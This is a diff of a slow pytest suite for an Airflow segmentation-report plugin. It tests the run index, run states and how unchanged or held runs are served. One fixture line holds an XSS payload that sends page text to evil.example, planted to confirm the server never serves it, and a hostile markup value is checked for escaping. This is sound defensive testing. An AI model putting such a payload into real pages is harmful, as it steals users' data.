@@ -16,11 +16,12 @@ from urllib.parse import quote, urlencode
 import pytest
 
 from aws_emulator.connection import airflow_env
-from include.segmentation_aws.published_runs import PNG_MAGIC, run_summary
+from include.airflow_popseg.published import published_run, published_runs
+from include.segmentation_aws.published_runs import PNG_MAGIC, NotPublished, run_summary
 from tests.support.airflow_db import record_publication
 from tests.support.api_server import api_token, http_get, http_response, running_api_server
 from tests.support.paths import PROJECT_ROOT
-from tests.support.published_files import legacy_summary, publish_files
+from tests.support.published_files import legacy_summary, publish_files, trained_run, unchanged_run
 
 pytestmark = pytest.mark.slow
 
@@ -50,6 +51,83 @@ def test_airflow_lists_the_plugin_with_its_view(airflow_db, aws_env) -> None:
     # Each run's page gets a "Report" tab; the UI fills in {RUN_ID}.
     assert views["dag_run"]["name"] == "Report"
     assert views["dag_run"]["href"] == "/segmentation/runs/{RUN_ID}/report"
+
+
+INDEXED = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
+           "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
+
+
+def _indexed(run_id: str, document: dict | None = None) -> dict:
+    """The summary of run `run_id` (its run.json `document`, else a published run's) with a report digest."""
+    document = {**(document or trained_run(INDEXED)), "run_id": run_id}
+    return run_summary(document, f"s3://popseg-index/segmentation/runs/{run_id}/", {"report.html": "0" * 64})
+
+
+def _listed(run_ids: list[str]) -> list[tuple[str, str]]:
+    """(run id, state) of these runs in the index, in its order (other tests of the session record runs too)."""
+    return [(run.run_id, run.state) for run in published_runs() if run.run_id in run_ids]
+
+
+def test_the_index_lists_published_held_unchanged_and_legacy_runs_newest_first(airflow_db) -> None:
+    tag = uuid.uuid4().hex[:8]
+    legacy, published, held, unchanged = (f"manual__{tag}_{name}" for name in ("legacy", "pub", "held", "same"))
+    record_publication(_indexed(legacy), asset="population_segmentation_results")  # before the runs Asset
+    record_publication(_indexed(published, trained_run(INDEXED, previous_run=legacy, churn=0.123)))
+    record_publication(_indexed(held, trained_run(INDEXED, previous_run=published, churn=0.6, refusal="too much")))
+    record_publication(
+        _indexed(unchanged, unchanged_run(INDEXED, unchanged, since=published)), task_id="record_unchanged"
+    )
+    assert _listed([legacy, published, held, unchanged]) == [
+        (unchanged, "unchanged"), (held, "held"), (published, "published"), (legacy, "published")
+    ]  # fmt: skip
+    assert published_run(unchanged).unchanged_since == published and published_run(held).held_reason == "too much"
+
+
+def test_the_index_lists_no_event_another_task_or_asset_recorded(airflow_db) -> None:
+    tag = uuid.uuid4().hex[:8]
+    results = "population_segmentation_results"
+    planted = {
+        f"manual__{tag}_promote": {"task_id": "promote", "asset": results},  # latest.json moved: not a run record
+        f"manual__{tag}_promote_runs": {"task_id": "promote"},
+        f"manual__{tag}_other_task": {"task_id": "someone-else"},
+        f"manual__{tag}_unchanged_on_results": {"task_id": "record_unchanged", "asset": results},
+    }  # fmt: skip
+    for run_id, recorded in planted.items():
+        record_publication(_indexed(run_id), **recorded)
+    assert _listed(list(planted)) == []
+    for run_id in planted:
+        with pytest.raises(NotPublished, match=f"Run {run_id} has recorded no results"):
+            published_run(run_id)
+
+
+def test_a_run_recorded_twice_is_listed_once_as_its_newest_event_says(airflow_db) -> None:
+    run_id = f"manual__{uuid.uuid4().hex[:8]}"
+    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.6, refusal="x")))
+    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.1)))  # re-run
+    assert _listed([run_id]) == [(run_id, "published")]
+    assert (published_run(run_id).state, published_run(run_id).churn) == ("published", 0.1)
+
+
+def test_the_index_is_bounded_by_runs_not_events_and_costs_one_query(airflow_db) -> None:
+    from airflow.settings import engine
+    from sqlalchemy import event
+
+    tag = uuid.uuid4().hex[:8]
+    for attempt in range(3):  # the newest run, recorded three times
+        record_publication(_indexed(f"manual__{tag}_b", trained_run(INDEXED, churn=attempt / 10)))
+    record_publication(_indexed(f"manual__{tag}_c"))
+    statements = []
+
+    def executed(connection, cursor, statement, *rest) -> None:
+        statements.append(statement)
+
+    event.listen(engine, "before_cursor_execute", executed)
+    try:
+        newest = published_runs(limit=2)
+    finally:
+        event.remove(engine, "before_cursor_execute", executed)
+    assert [run.run_id for run in newest] == [f"manual__{tag}_c", f"manual__{tag}_b"]
+    assert len([sql for sql in statements if sql.lstrip().upper().startswith("SELECT")]) == 1, statements
 
 
 PLANTED_REPORT = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"
@@ -206,6 +284,64 @@ def test_files_changed_in_s3_after_publishing_are_refused_with_their_reason_neve
         assert status == 404 and "re-run it to view its report" in page.decode() and b"an old report" not in page
         status, _, body = http_response(f"{base}/segmentation/runs/manual__legacy/report.html", auth)
         assert status == 404 and "re-run it" in json.loads(body)["detail"]
+
+
+@pytest.fixture
+def unchanged(airflow_db, clients) -> dict[str, str]:
+    """A run that published, a run unchanged since it (with files planted under the unchanged run's id), and a
+    held run whose gate refusal carries markup: their run ids."""
+    s3, tag = clients["s3"], uuid.uuid4().hex[:8]
+    bucket = f"popseg-view-{tag}"
+    s3.create_bucket(Bucket=bucket)
+    ids = {name: f"manual__{tag}_{name}" for name in ("standing", "unchanged", "held")}
+    trained = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
+               "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
+    files = {"report.html": b"<h1>the standing report</h1>", "segments.csv": SEGMENTS_CSV}
+    standing = f"s3://{bucket}/segmentation/runs/{ids['standing']}/"
+    record_publication(publish_files(s3, {**trained_run(trained), "run_id": ids["standing"]}, standing, files))
+    same = f"s3://{bucket}/segmentation/runs/{ids['unchanged']}/"
+    document = unchanged_run(trained, ids["unchanged"], since=ids["standing"])
+    record_publication(run_summary(document, same, {}), task_id="record_unchanged")
+    for name, data in {"report.html": PLANTED_REPORT, "segments.csv": SEGMENTS_CSV}.items():
+        s3.put_object(Bucket=bucket, Key=f"segmentation/runs/{ids['unchanged']}/{name}", Body=data)
+    held = trained_run(trained, previous_run=ids["standing"], churn=0.6, refusal=f"churn {HOSTILE} above the gate")
+    record_publication(
+        publish_files(s3, {**held, "run_id": ids["held"]}, f"s3://{bucket}/segmentation/runs/{ids['held']}/", files)
+    )
+    return ids
+
+
+def test_an_unchanged_run_points_to_the_run_that_stands_and_serves_no_file_under_its_id(
+    aws_env, unchanged, tmp_path
+) -> None:
+    run, standing = unchanged["unchanged"], unchanged["standing"]
+    with running_api_server(aws_env, tmp_path) as base:
+        token = api_token(base, "viewer")
+        api, cookie = {"Authorization": f"Bearer {token}"}, {**BROWSER, "Cookie": f"_token={token}"}
+        status, _, page = http_response(f"{base}/segmentation/runs/{run}/report", cookie)
+        files = {name: http_response(f"{base}/segmentation/runs/{run}/{name}", api)
+                 for name in ("report.html", "segments.csv", "plots/a.png")}  # fmt: skip
+        refused_page = http_response(f"{base}/segmentation/runs/{run}/report.html", cookie)
+    assert status == 200 and b"<iframe" not in page and b"evil.example" not in page
+    assert f"href='/segmentation/runs/{standing}/report'>Open the report of run {standing}</a>" in page.decode()
+    for name, (status, _, body) in files.items():
+        assert status == 404, name
+        assert f"unchanged since run {standing}, whose results still stand" in json.loads(body)["detail"], name
+        assert b"evil.example" not in body and b"Alabama" not in body, name
+    assert refused_page[0] == 404 and "<h1>This run trained nothing</h1>" in refused_page[2].decode()
+    assert f"id='instead' href='/segmentation/runs/{standing}/report'" in refused_page[2].decode()
+
+
+def test_the_list_shows_each_runs_state_and_escapes_the_gates_reason(aws_env, unchanged, tmp_path) -> None:
+    with running_api_server(aws_env, tmp_path) as base:
+        listed = http_get(f"{base}/segmentation/", {"Authorization": f"Bearer {api_token(base, 'viewer')}"})[1]
+    text = listed.decode()
+    assert "<script" not in text and f"churn {html.escape(HOSTILE, quote=True)} above the gate" in text
+    assert "held</span>: churn above the gate — <code>latest.json</code> not moved" in text
+    assert f"<span class='run'>{unchanged['unchanged']}</span>" in text  # no report of its own: not a link
+    assert f"since <a href='/segmentation/runs/{unchanged['standing']}/report'>" in text
+    assert "churn hint' title='60.0% of shared counties changed segment since run " in text
+    assert "'>60.0&nbsp;%</span>" in text
 
 
 BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
